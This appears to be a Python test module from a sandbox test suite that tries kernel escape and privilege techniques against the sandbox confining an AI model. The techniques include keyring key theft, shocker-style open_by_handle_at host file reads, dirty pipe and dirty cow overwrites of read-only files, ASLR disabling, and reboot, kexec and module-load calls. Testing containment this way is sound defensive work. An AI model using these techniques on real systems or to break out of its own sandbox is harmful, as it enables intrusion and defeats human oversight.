"""Parts of the kernel that a model never needs, and where its holes were. Harmless variants of harmful calls."""

# ruff: noqa: PTH123

import ctypes
import mmap
import os
import struct
import time
from pathlib import Path

from tests.sandbox.escape.attempt import CHANGED, LOOT, NOTED, SECRET, Host, address, attempt, call

_UNFILTERED = "no filter"
_SESSION_KEYRING, _USER_KEYRING = -3, -4
_LINK, _SEARCH, _READ = 8, 10, 11
_AT_FDCWD = -100


@attempt("reads another program's key from the user's keyring", SECRET, _UNFILTERED)
def steal_key(host: Host) -> str:
    call("keyctl", _LINK, _USER_KEYRING, _SESSION_KEYRING)  # what one links one possesses
    key = call("keyctl", _SEARCH, _USER_KEYRING, b"user", host["key"].encode(), 0)
    buffer = ctypes.create_string_buffer(512)
    size = call("keyctl", _READ, key, address(buffer), 512)
    return buffer.raw[:size].decode()


@attempt("leaves a key in the keyring", LOOT, _UNFILTERED)
def leave_key(host: Host) -> str:
    key = call("add_key", b"user", f"{host['key']}-left".encode(), b"x", 1, -2)  # of the process alone: it goes with it
    return f"key {key}"


@attempt("makes a map of programs for the kernel (bpf)", LOOT, "root with SYS_ADMIN, no filter")
def bpf(host: Host) -> str:
    made = ctypes.create_string_buffer(struct.pack("=IIIII", 2, 4, 8, 4, 0), 128)
    return f"descriptor {call('bpf', 0, address(made), 72)}"


@attempt("counts events of the processor and the kernel (perf)", LOOT, _UNFILTERED)
def perf_event(host: Host) -> str:
    event = ctypes.create_string_buffer(struct.pack("=IIQQQQQ", 1, 112, 1, 0, 0, 0, 1 << 5), 112)
    handle = call("perf_event_open", address(event), 0, -1, -1, 0)
    return f"count {len(os.read(handle, 8))}"


@attempt("makes a ring for calls that no filter sees (io_uring)", LOOT, _UNFILTERED, absent="io_uring_setup")
def io_uring(host: Host) -> str:
    parameters = ctypes.create_string_buffer(120)
    handle = call("io_uring_setup", 4, address(parameters))
    os.close(handle)
    return f"{struct.unpack_from('=I', parameters.raw)[0]} entries"


@attempt("handles page faults itself (userfaultfd)", LOOT, _UNFILTERED, absent="userfaultfd")
def userfaultfd(host: Host) -> str:
    return f"descriptor {call('userfaultfd', 1)}"


@attempt("writes a segment descriptor (modify_ldt)", LOOT, _UNFILTERED, absent="modify_ldt")
def modify_ldt(host: Host) -> str:
    entry = ctypes.create_string_buffer(struct.pack("=IIII", 0, 0, 0xFFFFF, 0x51))
    call("modify_ldt", 1, address(entry), 16)
    buffer = ctypes.create_string_buffer(64)
    return f"{call('modify_ldt', 0, address(buffer), 64)} bytes"


@attempt("turns address randomisation off (personality)", LOOT, _UNFILTERED)
def personality(host: Host) -> str:
    call("personality", 0x0040000)
    return "off" if call("personality", 0xFFFFFFFF) & 0x0040000 else ""


@attempt("has the quotas of all disks written (quotactl)", LOOT, _UNFILTERED, absent="quotactl")
def quotactl(host: Host) -> str:
    call("quotactl", 0x80000100, 0, 0, 0)
    return "synced"


@attempt("gets a file's handle (name_to_handle_at)", LOOT, _UNFILTERED)
def name_to_handle(host: Host) -> str:
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    mount = ctypes.c_int()
    call("name_to_handle_at", _AT_FDCWD, b"/models/tool", address(handle), address(mount), 0)
    return handle.raw[: 8 + struct.unpack_from("=I", handle.raw)[0]].hex()


@attempt(
    "opens the host's file by its handle (open_by_handle_at, shocker)", SECRET, "root with DAC_READ_SEARCH, no filter"
)
def open_by_handle(host: Host) -> str:
    handle = ctypes.create_string_buffer(bytes.fromhex(host["secret_handle"]))
    mount = os.open("/models", os.O_RDONLY)
    return os.read(call("open_by_handle_at", mount, address(handle), os.O_RDONLY), 512).decode()


@attempt("splices pages of a read-only file and writes over them (dirty pipe)", CHANGED, "no filter, a writable mount")
def splice_over(host: Host) -> str:
    source = os.open(host["file"], os.O_RDONLY)
    reader, writer = os.pipe()
    call("splice", source, 0, writer, 0, 1, 0)
    os.write(writer, b"dirty")
    target = os.open(host["file"], os.O_WRONLY)
    call("splice", reader, 0, target, 0, 6, 0)
    return ""


@attempt("sends a file's pages to a pipe and writes over them (dirty pipe by sendfile)", CHANGED, "a writable mount")
def sendfile_over(host: Host) -> str:
    source = os.open(host["file"], os.O_RDONLY)
    reader, writer = os.pipe()
    os.sendfile(writer, source, 0, 1)
    os.write(writer, b"dirty")  # on a kernel with the hole this is in the file now
    os.pwrite(os.open(host["file"], os.O_WRONLY), os.read(reader, 6), 0)
    return ""


@attempt("gives its pages to a pipe (vmsplice)", LOOT, _UNFILTERED)
def vmsplice(host: Host) -> str:
    page = ctypes.create_string_buffer(b"gift", 4096)
    vector = ctypes.create_string_buffer(struct.pack("=QQ", address(page), 4))
    reader, writer = os.pipe()
    call("vmsplice", writer, address(vector), 1, 0)
    return os.read(reader, 4).decode()


@attempt("races a private copy of a read-only file (dirty cow)", CHANGED, "a writable mount")
def dirty_cow(host: Host) -> str:
    flags = os.O_RDWR if os.access(host["file"], os.W_OK) else os.O_RDONLY
    handle = os.open(host["file"], flags)
    kind = mmap.MAP_SHARED if flags == os.O_RDWR else mmap.MAP_PRIVATE
    view = mmap.mmap(handle, 4, kind, mmap.PROT_READ | (mmap.PROT_WRITE if flags == os.O_RDWR else 0))
    places = [line for line in Path("/proc/self/maps").read_text().splitlines() if line.endswith(host["file"])]
    at = int(places[0].split("-")[0], 16)
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        for _ in range(200):
            memory.seek(at)
            memory.write(b"cow!")
            view.madvise(mmap.MADV_DONTNEED)
    return ""


@attempt("watches all files of the machine (fanotify)", LOOT, "root with SYS_ADMIN, no filter", absent="fanotify_init")
def fanotify(host: Host) -> str:
    return f"descriptor {call('fanotify_init', 4, 0)}"


@attempt("sets the clock (asked with nothing to set)", LOOT, "root with SYS_TIME, no filter")
def set_time(host: Host) -> str:
    return f"allowed {call('settimeofday', 0, 0)}"


def _refused_late(name: str, *arguments: object) -> str:
    """The kernel's objection to nonsense; a wall says EPERM before it looks at it."""
    try:
        return f"allowed {call(name, *arguments)}"
    except PermissionError:
        raise
    except OSError as error:
        if error.errno == 38:  # ENOSYS
            raise
        return f"reached the kernel: {error.strerror}"


@attempt("restarts the machine (with a wrong number)", LOOT, "root with SYS_BOOT, no filter")
def reboot(host: Host) -> str:
    return _refused_late("reboot", 1, 2, 3, 0)


@attempt("loads another kernel (kexec, of nothing)", LOOT, "root with SYS_BOOT, no filter", absent="kexec_load")
def kexec(host: Host) -> str:
    return _refused_late("kexec_load", 0, 1 << 20, 0, 0xFFFF)


@attempt("loads a kernel module (of nothing)", LOOT, "root with SYS_MODULE, no filter", absent="init_module")
def load_module(host: Host) -> str:
    return _refused_late("init_module", 0, 0, 0)


@attempt("swaps to a file (that is not there)", LOOT, "root with SYS_ADMIN, no filter", absent="swapon")
def swap(host: Host) -> str:
    return _refused_late("swapon", b"/nonexistent", 0)


@attempt(
    "has all processes written down (to a file that is not there)",
    LOOT,
    "root with SYS_PACCT, no filter",
    absent="acct",
)
def accounting(host: Host) -> str:
    return _refused_late("acct", b"/nonexistent/x")


@attempt("reads the kernel's log (syslog)", LOOT, "root with SYSLOG, no filter")
def kernel_log(host: Host) -> str:
    buffer = ctypes.create_string_buffer(4096)
    size = call("syslog", 3, address(buffer), 4096)
    return buffer.raw[:size].decode(errors="replace")


@attempt("opens the processor's ports (ioperm)", LOOT, "root with SYS_RAWIO, no filter", absent="ioperm")
def processor_ports(host: Host) -> str:
    return f"allowed {call('ioperm', 0x80, 1, 1)}"


@attempt("runs before everybody else (setpriority)", NOTED, "root with SYS_NICE")
def raise_priority(host: Host) -> str:
    os.setpriority(os.PRIO_PROCESS, 0, -5)
    time.sleep(0.6)  # the host looks
    return "inside"
